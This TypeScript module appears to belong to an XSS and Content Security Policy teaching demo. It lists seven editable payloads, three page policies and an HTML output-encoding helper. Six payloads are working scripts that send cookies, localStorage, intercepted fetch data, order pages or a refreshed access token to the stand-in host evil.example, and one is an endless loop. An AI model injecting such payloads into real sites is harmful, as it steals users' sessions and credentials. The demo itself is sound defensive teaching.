/** Payloads to begin with. Not: a list of attacks; each is text in a box, to be changed. */

export interface Payload {
  readonly id: string;
  readonly label: string;
  /** One sentence: what it tries. */
  readonly says: string;
  readonly markup: string;
}

export const PAYLOADS: readonly [Payload, ...Payload[]] = [
  {
    id: 'read-storage',
    label: 'Read localStorage',
    says: 'Copies all of localStorage into the address of a request.',
    markup: `<img src=x onerror="
  fetch('https://evil.example/?c=' +
    encodeURIComponent(JSON.stringify(localStorage)))">`,
  },
  {
    id: 'read-cookie',
    label: 'Read document.cookie, by an image',
    says: 'Puts the cookies that script can see into the address of an image.',
    markup: `<script>
new Image().src = 'https://evil.example/?c=' +
  encodeURIComponent(document.cookie);
</script>`,
  },
  {
    id: 'hook-fetch',
    label: 'Catch a token as it is used',
    says: 'Takes the place of fetch, and copies what the page’s own script hands to it.',
    markup: `<script>
const real = window.fetch;
window.fetch = (input, init) => {
  navigator.sendBeacon('https://evil.example/', JSON.stringify(init));
  return real(input, init);
};
</script>`,
  },
  {
    id: 'act',
    label: 'Act from the page',
    says: 'Reads the orders as the victim and sends them on; no credential needs to be read.',
    markup: `<script>
fetch('/orders')
  .then((response) => response.text())
  .then((text) => navigator.sendBeacon('https://evil.example/', text));
</script>`,
  },
  {
    id: 'refresh',
    label: 'Ask for a token of one’s own',
    says: 'Lets the user agent send the refresh token, which no script can read, and takes the new access token.',
    markup: `<script>
(async () => {
  const response = await fetch('/auth/refresh', { method: 'POST' });
  navigator.sendBeacon('https://evil.example/', await response.text());
})();
</script>`,
  },
  {
    id: 'form',
    label: 'Send a form',
    says: 'Carries cookies and localStorage in a form, which connect-src does not govern.',
    markup: `<form action="https://evil.example/" method="post">
  <input type="hidden" name="c">
</form>
<script>
const form = document.forms[0];
form.c.value = document.cookie + JSON.stringify(localStorage);
form.submit();
</script>`,
  },
  {
    id: 'loop',
    label: 'Never end',
    says: 'An endless loop: it is stopped, and its frame removed.',
    markup: `<script>
while (true) {}
</script>`,
  },
];

interface PagePolicy {
  readonly id: string;
  readonly label: string;
  /** As the page has it; empty: none. `{nonce}` stands for a nonce that is new each time. */
  readonly policy: string;
}

export const PAGE_POLICIES: readonly [PagePolicy, ...PagePolicy[]] = [
  { id: 'none', label: 'none', policy: '' },
  { id: 'nonce', label: 'script only with a nonce', policy: "script-src 'nonce-{nonce}'" },
  {
    id: 'connect',
    label: 'requests only to the shop',
    policy: 'connect-src https://shop.example; img-src https://shop.example',
  },
];

/** Text as it stands in markup when its output is encoded (HTML, serialisation of text). */
export const encodeOutput = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');
